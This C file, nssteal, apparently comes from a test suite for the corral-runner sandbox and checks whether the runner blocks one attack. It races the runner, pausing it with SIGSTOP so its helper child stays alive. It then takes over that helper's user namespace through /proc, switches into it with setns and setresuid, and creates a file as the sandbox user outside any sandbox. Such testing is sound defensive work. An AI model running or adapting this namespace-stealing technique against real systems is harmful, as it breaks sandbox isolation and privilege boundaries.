/* SPDX-License-Identifier: MIT */
/*
 * nssteal: the member who starts corral-runner tries to take the user
 * namespace the runner creates for its idmapped mounts (it maps the
 * caller's uid onto the sandbox user's), and to become the sandbox user
 * through it, outside any sandbox.
 *
 *   nssteal RUNNER-PID REQUEST-FILE OUTFILE
 *
 * fd 8 is the write end of the FIFO the runner reads its request from; the
 * runner is waiting on it. nssteal writes the request, watches for the
 * runner's first child (the helper that creates the namespace), stops the
 * runner (the caller may: same real uid) so that the helper stays alive,
 * and tries /proc/CHILD/ns/user. With it: setns() and setresuid() to its
 * own uid, which the map shows as the sandbox user, then creates OUTFILE.
 *
 * Prints SEEN when it caught the helper while the runner was still
 * privileged. Exit 0: OUTFILE was created through the namespace (the
 * attack worked). 1: blocked (or, without SEEN, the window was missed).
 * 2: usage.
 */
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

#include "report.h"

static long field(pid_t pid, const char *name)
{
	char path[64], line[256];
	snprintf(path, sizeof(path), "/proc/%d/status", (int)pid);
	FILE *f = fopen(path, "re");
	long v = -1;
	size_t n = strlen(name);
	while (f && fgets(line, sizeof(line), f))
		if (strncmp(line, name, n) == 0)
			v = strtol(line + n, NULL, 10);
	if (f)
		fclose(f);
	return v;
}

static pid_t last_pid(void)
{
	char b[32] = {0};
	int f = open("/proc/sys/kernel/ns_last_pid", O_RDONLY | O_CLOEXEC);
	if (f < 0)
		return 0;
	ssize_t n = read(f, b, sizeof(b) - 1);
	close(f);
	return n > 0 ? (pid_t)strtol(b, NULL, 10) : 0;
}

static double now(void)
{
	struct timespec ts;
	clock_gettime(CLOCK_MONOTONIC, &ts);
	return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
}

int main(int argc, char **argv)
{
	if (argc != 4) {
		fprintf(stderr, "usage: nssteal RUNNER-PID REQUEST-FILE OUTFILE (fd 8: the request FIFO)\n");
		return 2;
	}
	pid_t runner = (pid_t)strtol(argv[1], NULL, 10);
	static char req[1 << 20];
	char path[64];
	struct stat self, st;
	if (stat("/proc/self/ns/user", &self) < 0)
		return blocked("stat /proc/self/ns/user");
	int rq = open(argv[2], O_RDONLY | O_CLOEXEC);
	ssize_t len = rq < 0 ? -1 : read(rq, req, sizeof(req));
	pid_t last = last_pid(), child = 0;
	if (len <= 0 || last <= 0) {
		fprintf(stderr, "nssteal: cannot read the request or ns_last_pid\n");
		return 2;
	}
	close(rq);
	if (write(8, req, (size_t)len) != len)
		return blocked("write the request");

	/* The helper is a child of the runner that stays alive (blocked) while
	 * the runner is stopped: watch the pids allocated most recently (others
	 * fork meanwhile), stop the runner on each child found, and pass over
	 * children that end on their own (a probe that only tries unshare). */
	int fd = -1, err = 0;
	double end = now() + 5;
	while (!child && now() < end && !(kill(runner, 0) < 0 && errno == ESRCH)) {
		pid_t cur = last_pid(), found = 0;
		for (pid_t p = cur - 15 > last ? cur - 15 : last + 1; p <= cur && !found; p++)
			if (field(p, "PPid:") == runner)
				found = p;
		if (!found)
			continue;
		kill(runner, SIGSTOP);
		usleep(50000);
		char st_path[64], state[256] = "";
		snprintf(st_path, sizeof(st_path), "/proc/%d/status", (int)found);
		FILE *f = fopen(st_path, "re");
		while (f && fgets(state, sizeof(state), f) && strncmp(state, "State:", 6) != 0)
			;
		if (f)
			fclose(f);
		if (strncmp(state, "State:", 6) == 0 && !strchr(state, 'Z')) {
			child = found;
			if (field(runner, "Uid:") == (long)getuid())
				printf("SEEN: the runner's helper %d, while the runner was privileged\n", (int)child);
			snprintf(path, sizeof(path), "/proc/%d/ns/user", (int)child);
			for (double stop = now() + 0.5; fd < 0 && now() < stop;) {
				int n = open(path, O_RDONLY | O_CLOEXEC);
				if (n < 0) {
					err = errno;
					continue;
				}
				if (fstat(n, &st) == 0 && st.st_ino != self.st_ino)
					fd = n;
				else
					close(n);
			}
		}
		last = found; /* next time, only later pids */
		kill(runner, SIGCONT);
	}
	if (!child) {
		printf("MISSED: no child of the runner was caught alive\n");
		errno = ESRCH;
		return blocked("find the helper");
	}
	if (fd < 0) {
		errno = err;
		return blocked("open the helper's /proc/PID/ns/user");
	}
	printf("STOLEN: the user namespace of %d\n", (int)child);
	usleep(300000); /* the runner writes the maps */
	uid_t me = getuid();
	if (setns(fd, CLONE_NEWUSER) < 0)
		return blocked("setns into it");
	if (setresuid(me, me, me) < 0)
		return blocked("setresuid in it");
	int out = open(argv[3], O_CREAT | O_WRONLY | O_CLOEXEC, 0644);
	if (out < 0)
		return blocked("create OUTFILE");
	close(out);
	return succeeded("created OUTFILE through the runner's user namespace");
}
